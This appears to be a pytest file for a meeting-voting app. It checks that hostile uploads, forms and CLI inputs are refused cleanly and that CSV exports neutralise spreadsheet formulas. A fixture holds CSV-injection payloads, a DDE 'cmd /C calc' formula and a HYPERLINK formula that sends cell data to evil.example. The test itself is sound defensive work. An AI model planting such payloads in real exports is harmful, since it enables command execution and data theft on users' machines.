"""Hostile input on the facilitator side, in files and over HTTP: a clear 4xx or exit 2, never
a 500 or a traceback (issue 11, "Bad input everywhere")."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from app.cli import main as covote
from app.core.inputs import MAX_INT
from tests.conftest import MEETING, LiveServer, Meeting, Phone, csrf_of
from tests.test_recount import recount_exports

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: what a spreadsheet runs
HOSTILE_NUMBERS = (str(2**63), str(-(2**63) - 1), "9" * 400, str(2**31), "0", "-1")


def _path_with(path: str, params: dict[str, str], hostile: str, target: str) -> str:
    for name, kind in params.items():
        value = hostile if name == target else ("1" if kind == "integer" else "x")
        path = path.replace("{" + name + "}", value)
    return path


def test_out_of_range_numbers_in_any_integer_path_parameter_are_404(
    server: LiveServer, facilitator: httpx.Client, meeting: Meeting
) -> None:
    """2**63, -2**63-1 and 400 digits in every integer path parameter of every route: 404."""
    checked = 0
    for path, operations in server.app.openapi()["paths"].items():
        for method, op in operations.items():
            params = {p["name"]: p["schema"].get("type", "") for p in op.get("parameters", [])}
            params = {k: v for k, v in params.items() if "{" + k + "}" in path}
            for target in (name for name, kind in params.items() if kind == "integer"):
                declared = next(p["schema"] for p in op["parameters"] if p["name"] == target)
                assert declared.get("minimum") == 1 and declared.get("maximum") == MAX_INT, (
                    f"{method} {path}: {target} must be a deps.RowId"
                )
                for hostile in HOSTILE_NUMBERS:
                    url = _path_with(path, params, hostile, target)
                    r = facilitator.request(method.upper(), url, data={"csrf": meeting.csrf})
                    assert r.status_code == 404, (method, url, r.status_code, r.text[:200])
                    checked += 1
    assert checked > 100  # every console route has at least a meeting id


def _chunks(total: int, head: bytes = b"") -> Iterator[bytes]:
    yield head
    for _ in range(total // 65536):
        yield b"x" * 65536


def test_a_chunked_body_over_the_limit_gets_413_with_the_reason(
    server: LiveServer, facilitator: httpx.Client, meeting: Meeting
) -> None:
    """3 MiB sent chunked (no Content-Length) gets 413 and the limit, on the API and a form."""
    for client, path, content_type in (
        (server.browser(), f"/api/m/{meeting.code}/ballot", "application/json"),
        (facilitator, "/console/import", "multipart/form-data; boundary=x"),
    ):
        head = b"--x\r\nContent-Disposition: form-data; name=file; filename=m.json\r\n\r\n"
        r = client.post(
            path,
            content=_chunks(3 * 1024 * 1024, head if "multipart" in content_type else b"a="),
            headers={"Content-Type": content_type},
        )
        assert r.status_code == 413, (path, r.status_code, r.text[:200])
        assert r.json()["error"]["code"] == "too_large"
        assert "larger than 2048 KiB" in r.json()["error"]["message"]
    assert server.browser().get(f"/api/m/{meeting.code}").status_code == 200


def _import(facilitator: httpx.Client, body: str | bytes) -> httpx.Response:
    return facilitator.post(
        "/console/import",
        data={"csrf": csrf_of(facilitator)},
        files={"file": ("meeting.json", body, "application/json")},
        follow_redirects=False,
    )


def _with_proposal(**changes: Any) -> str:
    spec = json.loads(json.dumps(MEETING))
    spec["proposals"][0].update(changes)
    return json.dumps(spec)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (json.dumps({**MEETING, "rule": {"ratio": 10**400, "group_min": 2}}), "more than 20"),
        (json.dumps({**MEETING, "rule": {"ratio": 2**63, "group_min": 2}}), "rule.ratio"),
        (json.dumps({**MEETING, "rule": {"ratio": 2, "group_min": 10**15}}), "rule.group_min"),
        ("[" * 5000 + "]" * 5000, "nested more than 32 levels"),
        ('{"a":' * 5000 + "1" + "}" * 5000, "nested more than 32 levels"),
        (_with_proposal(saving=float("nan")), "NaN is not a number"),
        (_with_proposal(saving=10**18), "must be at most"),
        (_with_proposal(cost=1).replace('"cost": 1', '"cost": 1e400'), "too large"),
        (_with_proposal(id="lib\u202erary"), "U+202E"),
        (_with_proposal(id="lib\x00rary"), "U+0000"),
        (_with_proposal(id="lib\u200brary"), "U+200B"),
        (_with_proposal(id="'library"), "must not start with"),
    ],
)
def test_hostile_meeting_files_are_refused_with_the_reason(
    facilitator: httpx.Client, body: str, reason: str
) -> None:
    """Huge integers, deep nesting, NaN/Infinity and invisible characters in ids: 400."""
    r = _import(facilitator, body)
    assert r.status_code == 400, r.text[:300]
    assert reason in r.text


def test_texts_lose_control_direction_and_invisible_characters(
    facilitator: httpx.Client,
) -> None:
    """Titles, labels and descriptions are stored NFC, without NUL, RLO or zero-width spaces."""
    spec = json.loads(json.dumps(MEETING))
    spec["title"] = "Budget\x00 \u202e2026\u200b"
    spec["segments"][0]["label"] = "Ca\u2066rer\ufeff"
    spec["proposals"][0]["description"] = "Line one\r\nLine\u200d two\x07"
    spec["proposals"][0]["title"] = "Cafe\u0301"  # e + combining acute: NFC makes one character
    r = _import(facilitator, json.dumps(spec))
    assert r.status_code == 303, r.text
    meeting_id = r.headers["location"].split("/")[2]
    stored = facilitator.get(f"/console/{meeting_id}/export/meeting.json").json()
    assert stored["title"] == "Budget 2026"
    assert stored["segments"][0]["label"] == "Carer"
    assert stored["proposals"][0]["description"] == "Line one\nLine two"
    assert stored["proposals"][0]["title"] == "Caf\u00e9"


@pytest.mark.parametrize(
    ("path", "data", "reason"),
    [
        ("/settings", {"title": "T", "ratio": "9" * 400, "group_min": "2"}, "R must be"),
        ("/settings", {"title": "T", "ratio": str(2**63), "group_min": "2"}, "R must be"),
        ("/settings", {"title": "T", "ratio": "2", "group_min": str(2**30)}, "group_min"),
        ("/settings", {"title": "T", "ratio": "2", "group_min": "2", "budget_pot": "9" * 400}, ""),
        ("/settings", {"title": "\u202e", "ratio": "2", "group_min": "2"}, "title"),
        ("/proposals", {"key": "x", "title": "T", "kind": "fund", "cost": "1e300"}, "at most"),
        ("/proposals", {"key": "x\u202e", "title": "T", "kind": "fund"}, "U+202E"),
        ("/segments", {"key": "x\x00", "label": "Lbl"}, "U+0000"),
        ("/rounds/1/step", {"index": str(2**64)}, "proposal number must be"),
        ("/tickets/manage", {"number": "9" * 400, "action": "revoke"}, "ticket number must be"),
        ("/tickets/manage", {"number": str(2**31), "action": "revoke"}, "ticket number must be"),
        (
            "/tickets/manage",
            {"number": str(2**31 - 1), "action": "revoke", "confirm": "yes"},
            "No. 2147483647",
        ),
        ("/keypads/register", {"keypad": "k\u200b1", "label": "Seat 1"}, "U+200B"),
    ],
)
def test_hostile_console_forms_get_4xx_with_the_reason(
    meeting: Meeting, path: str, data: dict[str, str], reason: str
) -> None:
    """Every console form bounds its numbers and checks its ids: 4xx and why, never 500."""
    r = meeting.f.post(
        f"/console/{meeting.id}{path}", data={"csrf": meeting.csrf, **data}, follow_redirects=False
    )
    assert 400 <= r.status_code < 500, (r.status_code, r.text[:300])
    assert reason in r.text


def _upload(meeting: Meeting, path: str, name: str, body: str) -> httpx.Response:
    return meeting.f.post(
        f"/console/{meeting.id}{path}",
        data={"csrf": meeting.csrf},
        files={"file": (name, body.encode(), "text/csv")},
        follow_redirects=False,
    )


@pytest.mark.parametrize(
    ("path", "body", "reason"),
    [
        (
            "/proposals.csv",
            f"id,title,description,kind,cost,saving,affected_groups\nx,T,,fund,{'9' * 5000},,\n",
            "cost: must be a number",
        ),
        (
            "/proposals.csv",
            "id,title,description,kind,cost,saving,affected_groups\n"
            f'x,"{"T" * 200_000}",,fund,,,\n',
            "malformed CSV",
        ),
        ("/keypads/import", f'keypad,label,segments\nk1,"{"L" * 200_000}",\n', "malformed CSV"),
        ("/keypads/import", "keypad,label,segments\nk\u202e1,Seat,\n", "U+202E"),
        ("/keypads/import", "keypad,label,segments\nk1,Seat\x00 1,\nk1,Seat 2,\n", ":3:"),
    ],
)
def test_hostile_csv_uploads_get_400_with_the_line(
    meeting: Meeting, path: str, body: str, reason: str
) -> None:
    """Proposals and keypad CSV uploads with huge numbers, fields or invisible ids: 400."""
    r = _upload(meeting, path, "upload.csv", body)
    assert r.status_code == 400, (r.status_code, r.text[:300])
    assert reason in r.text


def test_the_capture_line_refuses_deep_or_broken_json(meeting: Meeting) -> None:
    """The keypad capture endpoint answers 400 to nested, invalid or NaN JSON bodies."""
    for body in ("[" * 5000, "{", '{"line": NaN}', b"\xff\xfe"):
        r = meeting.f.post(
            f"/console/{meeting.id}/keypads/capture",
            content=body,
            headers={"X-Covote-CSRF": meeting.csrf, "Content-Type": "application/json"},
        )
        assert r.status_code == 400, (body, r.status_code, r.text[:200])


FORMULA_MEETING = {
    **MEETING,
    "title": "=cmd|' /C calc'!A0",
    "segments": [
        {"id": "-carer", "label": "+Carer", "protects": True},
        {"id": "@north", "label": "Area: North", "protects": True},
        {"id": "staff", "label": "Staff", "protects": False},
    ],
    "proposals": [
        {
            "id": "=library",
            "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            "description": "'quoted already",
            "kind": "keep",
            "saving": 48000,
            "affected_groups": ["@north"],
        },
        {
            "id": "+respite",
            "title": "-Respite",
            "kind": "fund",
            "cost": 80000,
            "affected_groups": ["-carer", "staff"],
        },
        {"id": "toilets", "title": "@Park toilets", "kind": "keep", "affected_groups": []},
    ],
    "tie_break": ["toilets", "=library", "+respite"],
}


def test_csv_exports_neutralise_formulas_and_the_recount_stays_exact(
    tmp_path: Path, facilitator: httpx.Client, phones: Callable[[], Phone], server: LiveServer
) -> None:
    """No exported CSV cell starts with = + - @ tab or CR; the recount of them is exact."""
    meeting = Meeting(facilitator, FORMULA_MEETING)
    meeting.open_round("=library", "+respite", "toilets")
    for marks, segments in (
        ({"=library": "want", "+respite": "dont_want"}, ("-carer",)),
        ({"=library": "dont_want", "toilets": "want"}, ("@north",)),
        ({"+respite": "want"}, ()),
    ):
        phone = Phone(server.browser(), meeting.code)
        if segments:
            assert phone.segments(*segments).status_code == 200
        assert phone.vote(marks).status_code == 200
    meeting.close_round(1)
    for name in ("ballots.csv", "proposals.csv"):
        text = facilitator.get(f"/console/{meeting.id}/export/{name}").text
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], name
        assert any(c.startswith("'") for c in cells)
    printed, published = recount_exports(facilitator, meeting.id, tmp_path)
    assert printed == published
    assert '"=library"' in printed


# --- the command line: exit 2 and a message for unreadable input, never a traceback ---------


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = covote(list(argv))
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, err


MEETING_TEXT = json.dumps(MEETING)
BALLOTS_HEADER = "round,voter,channel,segments,proposal,mark\n"


@pytest.mark.parametrize(
    ("meeting_text", "ballots_text", "reason"),
    [
        ("[" * 100_000, BALLOTS_HEADER, "nested more than 32 levels"),
        ('{"title": "T", "proposals": [], "rule": {"ratio": 1' + "0" * 5000 + "}}", "", "digits"),
        (MEETING_TEXT, BALLOTS_HEADER + f'1,v,phone,,library,"{"w" * 200_000}"\n', "malformed"),
        (MEETING_TEXT, BALLOTS_HEADER + "1,v\u202e,phone,,library,want\n", ""),
        (MEETING_TEXT, "\x00" * 1000, "column 1"),
    ],
)
def test_recount_on_hostile_files_exits_2_with_a_reason(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    meeting_text: str,
    ballots_text: str,
    reason: str,
) -> None:
    """`covote recount` on a hostile meeting or ballot file: message on stderr, exit 2."""
    (tmp_path / "m.json").write_text(meeting_text)
    (tmp_path / "b.csv").write_text(ballots_text)
    code, err = _run(
        capsys, "recount", str(tmp_path / "b.csv"), "--meeting", str(tmp_path / "m.json")
    )
    if "\u202e" in ballots_text:  # a voter pseudonym is not an id we check: counted as given
        assert code == 0
        return
    assert code == 2, err
    assert reason in err


def _link(seq: int, kind: str, data: Any, prev: str) -> dict[str, Any]:
    from app.record.chain import link_hash

    return {
        "seq": seq,
        "at": None,
        "kind": kind,
        "data": data,
        "prev": prev,
        "hash": link_hash(seq, None, kind, data, prev),
    }


def _chain(*links: tuple[str, Any]) -> str:
    from app.record.chain import GENESIS

    out, prev = [], GENESIS
    for seq, (kind, data) in enumerate(links, start=1):
        link = _link(seq, kind, data, prev)
        out.append(json.dumps(link))
        prev = link["hash"]
    return "\n".join(out) + "\n"


@pytest.mark.parametrize(
    "log",
    [
        "[" * 100_000 + "\n",
        '{"seq": 1' + "0" * 5000 + "}\n",
        _chain(
            ("ballot", {"round": "9" * 5000, "voter": "v", "channel": "p", "marks": {"a": "want"}})
        ),
        _chain(("ballot", {"round": "1", "voter": "v", "channel": "phone", "marks": ["want"]})),
        _chain(("round.opened", {"round": "1", "proposals": 7})),
        _chain(("voter.segments", {"voter": "v", "segments": [1, "a"]})),
        _chain(("ballot", {"round": "\u00b2", "voter": "v", "channel": "p", "marks": {"x": 1}})),
    ],
)
def test_audit_verify_on_hostile_logs_reports_without_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], log: str
) -> None:
    """`covote audit verify` on hostile logs: each problem on stderr, FAILED, exit 1 or 2."""
    (tmp_path / "a.jsonl").write_text(log)
    (tmp_path / "m.json").write_text(MEETING_TEXT)
    (tmp_path / "b.csv").write_text(BALLOTS_HEADER)
    code, err = _run(
        capsys,
        "audit",
        "verify",
        str(tmp_path / "a.jsonl"),
        "--ballots",
        str(tmp_path / "b.csv"),
        "--meeting",
        str(tmp_path / "m.json"),
    )
    assert code in (1, 2) and ("FAILED" in err or "could not be read" in err), err


def test_audit_verify_on_an_unreadable_file_exits_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A log that is not UTF-8, or a directory, is unreadable input: exit 2 and why."""
    (tmp_path / "bin.jsonl").write_bytes(b"\xff\xfe\x00garbage")
    assert _run(capsys, "audit", "verify", str(tmp_path / "bin.jsonl"))[0] == 2
    assert _run(capsys, "audit", "verify", str(tmp_path))[0] == 2


@pytest.mark.parametrize(
    "pb",
    [
        "META\nkey;value\nvote_type;approval\nbudget;" + "9" * 5000 + "\nnum_votes;1\n"
        "PROJECTS\nproject_id;cost\n1;5\nVOTES\nvoter_id;vote\nv;1\n",
        "META\nkey;value\nvote_type;approval\nbudget;10\nnum_votes;\u00b2\n"
        "PROJECTS\nproject_id;cost\n1;5\nVOTES\nvoter_id;vote\nv;1\n",
        "META\nkey;value\nvote_type;approval\nbudget;10\nnum_votes;" + "1" * 5000 + "\n"
        "PROJECTS\nproject_id;cost\n1;5\nVOTES\nvoter_id;vote\nv;1\n",
    ],
)
def test_recount_pb_on_hostile_files_exits_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], pb: str
) -> None:
    """`covote recount --pb` on huge or non-ASCII numbers: a reason on stderr, exit 2."""
    (tmp_path / "e.pb").write_text(pb)
    code, err = _run(capsys, "recount", "--pb", str(tmp_path / "e.pb"))
    assert code == 2 and "e.pb:" in err, err
